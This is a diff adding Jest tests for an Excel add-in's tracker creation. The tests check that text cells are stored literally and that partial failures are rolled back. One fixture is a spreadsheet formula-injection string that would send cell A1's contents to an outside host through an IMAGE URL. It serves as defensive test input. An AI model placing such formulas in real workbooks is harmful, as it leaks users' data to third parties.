@@ -10,6 +10,7 @@ import { applyStageColoursInExcel, createTrackerInExcel, registerRibbonCommands,
 import { buildFormulaEngine, type EngineTable } from '../preview/formula-engine';
 import { OVERDUE_COLOURS, STAGE_COLOURS, isOwnColourRule } from '../shared/formatting';
 import { TRACKER_TEXTS } from '../shared/messages/tracker';
+import * as tracker from '../shared/tracker';
 import { MEETING_COLUMNS, PARTNER_COLUMNS, excelSerialDate, type PartnerColumnKey } from '../shared/tracker';
 import { type ExcelFake, type ExcelSheetModel, areaAddress, createExcelFake, parseAddress, ribbonEvent } from './fakes/excel';
 
@@ -32,6 +33,7 @@ async function press(fake: ExcelFake, id: string) {
 afterEach(() => {
   delete (globalThis as Record<string, unknown>).Excel;
   delete (globalThis as Record<string, unknown>).Office;
+  jest.restoreAllMocks();
 });
 
 describe('the ribbon commands', () => {
@@ -173,6 +175,111 @@ describe('Create partner tracker in Excel', () => {
     expect(fake.workbook.tables.map((table) => areaAddress(table.area))).toEqual(['A1:P2', 'A1:E2', 'A1:L2']);
     expect(fake.workbook.sheet('Partners')!.content(1, 0)).toBe('');
     expect(fake.workbook.sheet('Meetings')!.content(1, 1)).toBe('');
+  });
+});
+
+describe('Create partner tracker in Excel keeps what it writes', () => {
+  // Texts Excel would otherwise read as a formula, a number, a boolean or a date.
+  const HOSTILE = ['=IMAGE("https://example.com/x.png"&A1)', '+49 170 1234567', '-Anna', '@Ben', '007', 'TRUE', '1/2', '1e3'];
+
+  it('stores every text of the example rows as written, and keeps numbers, dates and formulas', async () => {
+    const real = tracker.trackerLayouts;
+    jest.spyOn(tracker, 'trackerLayouts').mockImplementation((options) =>
+      real(options).map((layout) => ({
+        ...layout,
+        // Every text cell of the example rows becomes one of the hostile texts.
+        rows: layout.rows.map((row, r) => row.map((cell, c) => (typeof cell === 'string' && cell !== '' ? HOSTILE[(r + c) % HOSTILE.length] : cell))),
+      })),
+    );
+    const { fake } = await setup();
+    await press(fake, 'createTrackerWithExamples');
+    const written = real({ dialect: 'excel', language: 'en', names: tracker.planTrackerNames('en', []), withExamples: true, today: new Date() });
+    let texts = 0;
+    for (const layout of written) {
+      const sheet = fake.workbook.sheet(layout.name)!;
+      layout.rows.forEach((row, r) =>
+        row.forEach((cell, c) => {
+          const stored = sheet.cell(r + 1, c);
+          if (typeof cell === 'string' && cell !== '') {
+            texts++;
+            expect(stored).toMatchObject({ value: HOSTILE[(r + c) % HOSTILE.length], formula: '', numberFormat: '@' });
+          } else if (typeof cell === 'number' || cell instanceof Date) {
+            expect(stored.value).toBe(cell instanceof Date ? excelSerialDate(cell) : cell);
+            expect(stored.numberFormat).toBe(layout.columns[c].numberFormat);
+          }
+        }),
+      );
+    }
+    expect(texts).toBeGreaterThan(20);
+    // Headers are text too; the calculated columns hold formulas, not text.
+    const partners = fake.workbook.sheet('Partners')!;
+    expect(partners.cell(0, column('partner'))).toMatchObject({ value: 'Partner', numberFormat: '@' });
+    expect(partners.cell(1, column('hoursTogether')).formula).toMatch(/^=IF\(/);
+    expect(partners.cell(1, column('stage')).formula).toBe('=NETWORK.BONDSTAGE([@[Hours together]],"en")');
+    expect(partners.cell(1, column('stage')).numberFormat).not.toBe('@');
+    const checks = fake.workbook.sheet('Checks')!;
+    expect(typeof checks.cell(1, 2).value).toBe('boolean');
+  });
+
+  it('treats a defined name equal to a table name it wants as taken, and creates the tracker beside it', async () => {
+    const { fake, notices } = await setup();
+    fake.workbook.names.push('partners');
+    await press(fake, 'createTrackerWithExamples');
+    expect(notices.at(-1)!.kind).toBe('info');
+    expect(fake.workbook.sheets.map((sheet) => sheet.name)).toEqual(['Sheet1', 'Partners (2)', 'Meetings (2)', 'Checks (2)']);
+    expect(fake.workbook.tables.map((table) => table.name)).toEqual(['Partners2', 'Meetings2', 'Checks2']);
+    expect(fake.syncsPerRun).toEqual([2]);
+  });
+
+  it('removes what it added when Excel fails part-way, leaving the workbook as it was', async () => {
+    const { fake, notices } = await setup('de-DE');
+    const own = fake.workbook.addSheet('Partner');
+    own.write(0, 0, 'Name');
+    own.write(1, 0, 'Eva');
+    fake.workbook.tables.push({ name: 'Kontakte', sheet: own, area: parseAddress('A1:A2') });
+    const sheetsBefore = fake.workbook.sheets.map((sheet) => sheet.name);
+    const ownBefore = JSON.stringify([...own.cells]);
+    fake.failNextSync = { after: 60, message: 'GeneralException: An internal error has occurred.' };
+
+    const event = await press(fake, 'createTrackerWithExamples');
+    expect(event.completions).toBe(1);
+    expect(notices.at(-1)).toEqual({
+      kind: 'error',
+      title: TRACKER_TEXTS.de.errorTitle,
+      message: TRACKER_TEXTS.de.unexpectedError('GeneralException: An internal error has occurred.'),
+    });
+    expect(fake.workbook.sheets.map((sheet) => sheet.name)).toEqual(sheetsBefore);
+    expect(fake.workbook.tables.map((table) => table.name)).toEqual(['Kontakte']);
+    expect(JSON.stringify([...own.cells])).toBe(ownBefore);
+    expect(fake.workbook.active.name).toBe('Sheet1');
+    // Read, write (failed), then find and remove the added sheets.
+    expect(fake.syncsPerRun).toEqual([4]);
+
+    // Trying again gets the same fresh names, not a further set.
+    await press(fake, 'createTrackerWithExamples');
+    expect(fake.workbook.sheets.map((sheet) => sheet.name)).toEqual([...sheetsBefore, 'Partner (2)', 'Treffen (2)', 'Checklisten (2)']);
+  });
+
+  it('reports the failure even when removing what it added fails too', async () => {
+    const { fake, notices } = await setup();
+    fake.failNextSync = { after: 5, message: 'GeneralException: The workbook is busy' };
+    const run = fake.Excel.run;
+    let runs = 0;
+    fake.Excel.run = (batch) =>
+      run(async (context) => {
+        const sync = context.sync.bind(context);
+        // The sync after the failed one (finding the added sheets) fails as well.
+        let syncs = 0;
+        context.sync = async () => {
+          if (++syncs === 3) throw new Error('GeneralException: Still busy');
+          return sync();
+        };
+        runs++;
+        return batch(context);
+      });
+    await press(fake, 'createTracker');
+    expect(runs).toBe(1);
+    expect(notices.at(-1)!.message).toBe(TRACKER_TEXTS.en.unexpectedError('GeneralException: The workbook is busy'));
   });
 });
 
